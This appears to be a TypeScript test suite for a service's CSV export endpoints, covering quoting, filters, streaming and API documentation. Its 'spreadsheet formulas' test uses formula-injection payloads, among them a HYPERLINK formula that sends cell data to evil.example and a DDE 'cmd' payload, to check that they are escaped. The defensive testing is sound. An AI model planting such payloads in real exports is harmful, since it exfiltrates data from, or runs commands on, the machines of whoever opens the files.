/**
 * Issue 15 point 6: GET /orders/export.csv and GET /ledger/export.csv (and the operator API's
 * GET /partners/{id}/orders/export.csv and /ledger/export.csv): the rows of the list endpoints with their
 * filters, RFC 4180 CSV, streamed from a reader of their own that closes when the client goes away.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import Fastify from 'fastify';
import { describe, expect, it, vi } from 'vitest';
import { seedOrders } from '../../bench/seed.js';
import { sendCsv } from '../../src/http/csv.js';
import { ExportReader } from '../../src/store/export-reader.js';
import { codeOf, perTest, type Res, type TestPartner, type TestService } from '../helpers.js';
import { documentOf } from './openapi-doc.js';

const { service, cleanup } = perTest();

const ORDER_HEADER = 'order_id,created_at,type,status,partner_price,currency,price_usd_ref,quantity,recipient,label,completed_at,refunded,client_reference,gift,failure_stage,failure_reason';
const LEDGER_HEADER = 'entry_id,created_at,currency,kind,amount,balance_after,order_id,topup_id,note';

/** The CSV of an answer as records keyed by its header (every value a string; an empty field is ''). */
function records(r: Res): Record<string, string>[] {
  return parse(r.raw, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
}

const cell = (v: unknown) => (v === null || v === undefined ? '' : String(v));
/** A text value as a spreadsheet-safe CSV cell: a leading ' before = + - @ tab CR, except plain numbers. */
const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) && !/^-?\d+(\.\d+)?$/.test(s) ? `'${s}` : s);

/** What an order of GET /orders looks like as an export row. */
function orderRecord(o: any): Record<string, string> {
  return {
    order_id: o.order_id, created_at: o.created_at, type: o.type, status: o.status, partner_price: o.partner_price, currency: o.currency,
    price_usd_ref: cell(o.price_usd_ref), quantity: String(o.quantity), recipient: safe(o.recipient), label: o.label, completed_at: cell(o.completed_at),
    refunded: String(o.refunded), client_reference: safe(cell(o.client_reference)), gift: cell(o.gift?.gift), failure_stage: cell(o.failure?.stage), failure_reason: cell(o.failure?.reason),
  };
}

const ledgerRecord = (e: any) => Object.fromEntries(Object.entries(e).map(([k, v]) => [k, safe(cell(v))]));

/** Orders of every kind and outcome, two with a reference that needs quoting, and an order of another partner. */
async function someOrders(t: TestService): Promise<{ p: TestPartner; other: TestPartner }> {
  const p = await t.newPartner({ usd: '100.00', ton: '20000.000' });
  const other = await t.newPartner();
  const cols = await p.call('GET', '/nft/collections');
  const gifts = (await p.call('GET', `/nft/gifts?collection=${cols.body.items[0].collection}`)).body.items;
  expect((await p.order('stars', { quantity: 100, recipient: '@csv_user' }, undefined, { client_reference: 'cart 7, "gift" for Ann' })).status).toBe(200);
  expect((await p.order('stars', { quantity: 50, recipient: 'failstars_csv' }, undefined, { client_reference: 'plain-ref' })).status).toBe(200);
  expect((await p.order('premium', { months: 3, recipient: '@csv_prem' })).status).toBe(200);
  expect((await p.order('nft', { gift: gifts[0].gift, recipient: 'nogift_csv', max_price: gifts[0].partner_price })).status).toBe(200);
  expect((await p.order('nft', { gift: gifts[1].gift, recipient: '@csv_gift', max_price: gifts[1].partner_price })).status).toBe(200);
  expect((await other.order('stars', { quantity: 500, recipient: '@other_user' })).status).toBe(200);
  await t.advance(120);
  expect((await p.order('stars', { quantity: 60, recipient: 'slow_csv' })).status).toBe(200);
  return { p, other };
}

describe('GET /orders/export.csv', () => {
  it('exports the rows of GET /orders as RFC 4180 CSV: same values, quoting, newest first, own orders only', async () => {
    const t = await service();
    const { p } = await someOrders(t);
    const r = await p.call('GET', '/orders/export.csv');
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['content-disposition']).toBe(`attachment; filename="orders-${p.id}-2026-03-01.csv"`);
    expect(r.headers['ratelimit-remaining']).toBeDefined();
    expect(r.raw.startsWith(`${ORDER_HEADER}\r\n`)).toBe(true);
    expect(r.raw.endsWith('\r\n')).toBe(true);
    // the reference with a comma and quotes is quoted, its quotes doubled
    expect(r.raw).toContain(',"cart 7, ""gift"" for Ann",');
    const list = (await p.call('GET', '/orders')).body.items;
    expect(list).toHaveLength(6);
    expect(records(r)).toEqual(list.map(orderRecord));
    // spot checks of the formats: money as decimal strings, local created_at, completed_at with offset
    const gift = records(r).find((x) => x.type === 'nft' && x.status === 'completed')!;
    expect(gift.partner_price).toMatch(/^\d+\.\d{3}$/);
    expect(gift.created_at).toBe('2026-03-01T12:00:00.000000');
    expect(gift.completed_at).toMatch(/^2026-03-01T12:00:\d\d\.000000\+00:00$/);
    expect(records(r).find((x) => x.failure_reason === 'invalid_recipient')).toMatchObject({ status: 'failed', refunded: 'true', failure_stage: expect.any(String) });
  });

  it('applies the filters of GET /orders; a range with no rows is the header line alone', async () => {
    const t = await service();
    const { p } = await someOrders(t);
    const ids = (r: Res) => records(r).map((x) => x.order_id);
    const listed = async (q: string) => (await p.call('GET', `/orders?${q}`)).body.items.map((o: any) => o.order_id);
    for (const q of ['status=failed', 'type=nft', 'client_reference=plain-ref', 'from=2026-03-01T12:01:00Z', 'to=2026-03-01T12:00:30Z', 'type=stars&status=processing']) {
      const r = await p.call('GET', `/orders/export.csv?${q}`);
      expect(r.status, q).toBe(200);
      expect(ids(r), q).toEqual(await listed(q));
      expect(ids(r).length, q).toBeGreaterThan(0);
    }
    const none = await p.call('GET', '/orders/export.csv?from=2027-01-01');
    expect(none.status).toBe(200);
    expect(none.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(none.raw).toBe(`${ORDER_HEADER}\r\n`);
    const fresh = await t.newPartner();
    expect((await fresh.call('GET', '/orders/export.csv')).raw).toBe(`${ORDER_HEADER}\r\n`);
  });

  it('refuses bad filters with the JSON errors of GET /orders, paging parameters included', async () => {
    const t = await service();
    const p = await t.newPartner();
    for (const [url, code, param] of [
      ['/orders/export.csv?status=done', 'bad_status'],
      ['/orders/export.csv?type=gold', 'bad_type'],
      ['/orders/export.csv?from=yesterday', 'bad_time'],
      ['/orders/export.csv?limit=10', 'bad_param', 'limit'],
      ['/orders/export.csv?cursor=abc', 'bad_param', 'cursor'],
      ['/orders/export.csv?client_reference=', 'bad_param', 'client_reference'],
      ['/orders/export.csv?status=failed&status=completed', 'bad_param', 'status'],
    ] as const) {
      const r = await p.call('GET', url);
      expect(r.status, url).toBe(400);
      expect(r.headers['content-type'], url).toMatch(/^application\/json/);
      expect(codeOf(r), url).toBe(code);
      if (param) expect(r.body.param, url).toBe(param);
    }
    expect((await t.partnerCall('pk_live_nope', 'GET', '/orders/export.csv')).status).toBe(401);
  });
});

describe('GET /ledger/export.csv', () => {
  it('exports the rows of GET /ledger (both currencies merged newest first), with its filters; no rows is the header alone', async () => {
    const t = await service();
    const { p } = await someOrders(t);
    const r = await p.call('GET', '/ledger/export.csv');
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['content-disposition']).toBe(`attachment; filename="ledger-${p.id}-2026-03-01.csv"`);
    expect(r.raw.startsWith(`${LEDGER_HEADER}\r\n`)).toBe(true);
    const list = (await p.call('GET', '/ledger')).body.items;
    expect(list.map((e: any) => e.currency)).toContain('TON');
    expect(records(r)).toEqual(list.map(ledgerRecord));
    expect(records(r).find((x) => x.kind === 'order_refund' && x.currency === 'USD')).toMatchObject({ amount: '0.79' });
    for (const q of ['currency=TON', 'currency=USD&from=2026-03-01T12:01:00Z', 'to=2026-03-01T12:00:30Z']) {
      const f = await p.call('GET', `/ledger/export.csv?${q}`);
      expect(records(f), q).toEqual((await p.call('GET', `/ledger?${q}`)).body.items.map(ledgerRecord));
    }
    expect((await p.call('GET', '/ledger/export.csv?from=2027-01-01')).raw).toBe(`${LEDGER_HEADER}\r\n`);
    for (const [url, code] of [['/ledger/export.csv?currency=EUR', 'bad_param'], ['/ledger/export.csv?to=2026-13-45', 'bad_time'], ['/ledger/export.csv?limit=5', 'bad_param']]) {
      const b = await p.call('GET', url);
      expect(b.status, url).toBe(400);
      expect(b.body.code, url).toBe(code);
    }
  });
});

describe('the operator exports', () => {
  it('export one partner\'s orders and ledger under /partners/{partner_id}, with the same columns and filters', async () => {
    const t = await service();
    const { p, other } = await someOrders(t);
    const mine = await t.admin('GET', `/partners/${p.id}/orders/export.csv`);
    expect(mine.status).toBe(200);
    expect(mine.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(mine.headers['content-disposition']).toBe(`attachment; filename="orders-${p.id}-2026-03-01.csv"`);
    expect(mine.raw).toBe((await p.call('GET', '/orders/export.csv')).raw);
    const theirs = records(await t.admin('GET', `/partners/${other.id}/orders/export.csv`));
    expect(theirs.map((x) => x.recipient)).toEqual(["'@other_user"]);
    expect(records(await t.admin('GET', `/partners/${p.id}/orders/export.csv?status=failed`)).map((x) => x.status)).toEqual(['failed', 'failed']);
    const ledger = await t.admin('GET', `/partners/${p.id}/ledger/export.csv?currency=USD`);
    expect(ledger.raw).toBe((await p.call('GET', '/ledger/export.csv?currency=USD')).raw);
    const unknown = await t.admin('GET', '/partners/99999/orders/export.csv');
    expect(unknown.status).toBe(404);
    expect(unknown.body).toMatchObject({ code: 'not_found' });
    expect((await t.admin('GET', '/partners/abc/ledger/export.csv')).status).toBe(404);
    const bad = await t.admin('GET', `/partners/${p.id}/orders/export.csv?status=nope`);
    expect(bad.status).toBe(400);
    expect(bad.body.code).toBe('bad_status');
    const anon = await t.app.inject({ method: 'GET', url: `/api/admin/v1/partners/${p.id}/orders/export.csv` });
    expect(anon.statusCode).toBe(401);
  });
});

describe('streaming', () => {
  it('reads rows only as fast as the client takes them, holds no snapshot while a client stalls (a checkpoint empties the WAL), and closes its reader at the end or when the client goes away', async () => {
    const t = await service();
    const p = await t.newPartner({ usd: '1000000.00' });
    // 60,000 orders of about 280 bytes of CSV each: far more than the socket buffers hold
    seedOrders(t.env.DATABASE_PATH, p.id, 60_000);
    t.db.$client.exec(`update orders set client_reference = '${'r'.repeat(128)}'; delete from events`); // the seed's stub events are no webhook bodies
    let serverRes: http.ServerResponse | undefined;
    t.app.server.on('request', (_req, res) => (serverRes = res));
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const get = (path: string) => http.get({ host: '127.0.0.1', port, path: `/api/partner/v1${path}`, headers: { authorization: `Bearer ${p.key}` } });

    // read to the end: every row, and the reader closed
    const whole = await new Promise<string>((resolve, reject) => {
      get('/orders/export.csv').on('response', (res) => {
        let text = '';
        res.setEncoding('utf8').on('data', (d) => (text += d)).on('end', () => resolve(text)).on('error', reject);
      });
    });
    expect(whole.split('\r\n')).toHaveLength(60_000 + 2);
    expect(ExportReader.open).toBe(0);

    // a client that stops reading: the socket fills up, and the export waits with its reader open …
    const req = get('/orders/export.csv');
    req.on('error', () => {});
    const res = await new Promise<http.IncomingMessage>((resolve) => req.on('response', resolve));
    res.pause();
    await vi.waitFor(() => expect(serverRes?.writableNeedDrain).toBe(true), { timeout: 10_000 });
    for (let i = 0; i < 50; i++) await new Promise((r) => setImmediate(r));
    expect(ExportReader.open).toBe(1);
    // … holding no read snapshot while it waits: the service keeps writing, and a checkpoint empties the
    // write-ahead log completely (a reader holding a snapshot would keep it busy and the -wal file growing)
    for (let i = 0; i < 5; i++) expect((await p.order('stars', { quantity: 50, recipient: '@wal_user' })).status).toBe(200);
    expect(fs.statSync(`${t.env.DATABASE_PATH}-wal`).size).toBeGreaterThan(0);
    const checkpointer = new Database(t.env.DATABASE_PATH);
    try {
      checkpointer.pragma('busy_timeout = 0');
      const [ck] = checkpointer.pragma('wal_checkpoint(TRUNCATE)') as { busy: number; log: number; checkpointed: number }[];
      expect(ck.busy).toBe(0);
    } finally {
      checkpointer.close();
    }
    expect(fs.statSync(`${t.env.DATABASE_PATH}-wal`).size).toBe(0);
    expect(serverRes?.writableNeedDrain).toBe(true); // still stalled
    // … and going away closes the reader
    req.destroy();
    await vi.waitFor(() => expect(ExportReader.open).toBe(0));
    // seeding 60,000 orders through the database's money guards takes a few seconds more on a loaded machine
  }, 60_000);

  it('reads in pages: every row once, newest first, across page ends (orders and the merged ledger), newer rows not included', async () => {
    const t = await service();
    const { p } = await someOrders(t);
    const ordersList = (await p.call('GET', '/orders')).body.items.map((o: any) => o.order_id);
    const ledgerList = (await p.call('GET', '/ledger')).body.items.map((e: any) => e.entry_id);
    expect(ledgerList.length).toBeGreaterThan(8);
    for (const size of [1, 2, 3, 500]) {
      const r = new ExportReader(t.env.DATABASE_PATH, size);
      try {
        expect([...r.orders({ partnerId: p.id })].map((o) => o.orderId), `page ${size}`).toEqual(ordersList);
        expect([...r.ledger({ partnerId: p.id, currencies: ['USD', 'TON'] })].map((e) => e.entryId), `page ${size}`).toEqual(ledgerList);
        expect([...r.orders({ partnerId: p.id, status: 'failed' })].map((o) => o.status), `page ${size}`).toEqual(['failed', 'failed']);
      } finally {
        r.close();
      }
    }
    // an order made after the first page was read is newer than the export and not in it
    const r = new ExportReader(t.env.DATABASE_PATH, 2);
    try {
      const it = r.orders({ partnerId: p.id });
      const first = it.next().value!;
      expect((await p.order('stars', { quantity: 50, recipient: '@late_user' })).status).toBe(200);
      expect([first.orderId, ...[...it].map((o) => o.orderId)]).toEqual(ordersList);
    } finally {
      r.close();
    }
  });

  it('quotes commas, quotes, CR and LF as RFC 4180 says (a client_reference cannot hold a line break, so the HTTP shell is fed one directly)', async () => {
    const app = Fastify();
    cleanup(() => app.close());
    const rows = [['a,b', 'say "hi"', 'line1\nline2', 'cr\rhere', null, 7, 'plain']];
    app.get('/x.csv', async (_req, reply) => sendCsv(reply, { filename: 'x.csv', columns: ['c1', 'c2', 'c3', 'c4', 'c5', 'c6', 'c7'], rows: rows[Symbol.iterator]() }));
    const r = await app.inject({ method: 'GET', url: '/x.csv' });
    expect(r.statusCode).toBe(200);
    expect(r.body).toBe('c1,c2,c3,c4,c5,c6,c7\r\n"a,b","say ""hi""","line1\nline2","cr\rhere",,7,plain\r\n');
    expect(parse(r.body, { columns: true })).toEqual([{ c1: 'a,b', c2: 'say "hi"', c3: 'line1\nline2', c4: 'cr\rhere', c5: '', c6: '7', c7: 'plain' }]);
  });
});

describe('spreadsheet formulas', () => {
  it('a text cell beginning with = + - @ gets a leading \' in the partner and operator exports; signed amounts stay numbers', async () => {
    const t = await service();
    const p = await t.newPartner({ usd: '100.00' });
    const refs = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '-12.50', 'plain ref'];
    for (const client_reference of refs) expect((await p.order('stars', { quantity: 50, recipient: '@formula_user' }, undefined, { client_reference })).status).toBe(200);
    for (const r of [await p.call('GET', '/orders/export.csv'), await t.admin('GET', `/partners/${p.id}/orders/export.csv`)]) {
      expect(r.status).toBe(200);
      const rows = records(r);
      expect(rows.map((x) => x.client_reference)).toEqual([
        'plain ref',
        '-12.50',
        "'@SUM(1,2)",
        "'-2+3",
        "'+cmd|' /C calc'!A0",
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
      ]);
      expect(new Set(rows.map((x) => x.recipient))).toEqual(new Set(["'@formula_user"]));
      expect(r.raw).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",');
      // the JSON list keeps the values as they are
      expect((await p.call('GET', '/orders')).body.items.map((o: any) => o.client_reference)).toEqual([...refs].reverse());
    }
    for (const r of [await p.call('GET', '/ledger/export.csv?currency=USD'), await t.admin('GET', `/partners/${p.id}/ledger/export.csv?currency=USD`)]) {
      const debits = records(r).filter((x) => x.kind === 'order_debit');
      expect(debits).toHaveLength(refs.length);
      for (const d of debits) expect(d.amount).toBe('-0.79');
    }
  });

  it('escapes a leading tab or carriage return, leaves numbers, nulls and inner signs alone', async () => {
    const app = Fastify();
    cleanup(() => app.close());
    const rows = [['\tx', '\rx', 'a=b', '-7', '+7', -3, null, '@', '=', 'x@y', '-0.001', '- 5']];
    app.get('/x.csv', async (_req, reply) => sendCsv(reply, { filename: 'x.csv', columns: rows[0].map((_c, i) => `c${i}`), rows: rows[Symbol.iterator]() }));
    const r = await app.inject({ method: 'GET', url: '/x.csv' });
    expect(r.body.split('\r\n')[1]).toBe(`'\tx,"'\rx",a=b,-7,'+7,-3,,'@,'=,x@y,-0.001,'- 5`);
  });
});

describe('the CSV exports in the OpenAPI document', () => {
  it('are documented as text/csv and a generated client reads them as text', async () => {
    const t = await service();
    const p = await t.newPartner();
    await p.order('stars', { quantity: 50, recipient: '@csv_user' }, undefined, { client_reference: 'a,"b"' });
    const d = await documentOf(t);
    for (const path of ['/orders/export.csv', '/ledger/export.csv']) {
      const ok = d.doc.paths[path].get.responses['200'];
      expect(Object.keys(ok.content), path).toEqual(['text/csv']);
      expect(ok.headers['Content-Disposition'], path).toBeDefined();
    }
    expect(d.violations('get', '/orders/export.csv', await p.call('GET', '/orders/export.csv?status=x'))).toEqual([]);
    const types = await d.generatedTypes();
    expect(types).toContain('"/orders/export.csv"');
    expect(types).toContain('"text/csv": string');
    const client = await d.client(p);
    const r = await client.GET('/orders/export.csv', { params: { query: { type: 'stars' } }, parseAs: 'text' });
    expect(r.response.status).toBe(200);
    expect(r.response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(parse(r.data as string, { columns: true })[0]).toMatchObject({ type: 'stars', client_reference: 'a,"b"', partner_price: '0.79' });
    const l = await client.GET('/ledger/export.csv', { parseAs: 'text' });
    expect((l.data as string).split('\r\n')[0]).toBe(LEDGER_HEADER);
  });
});
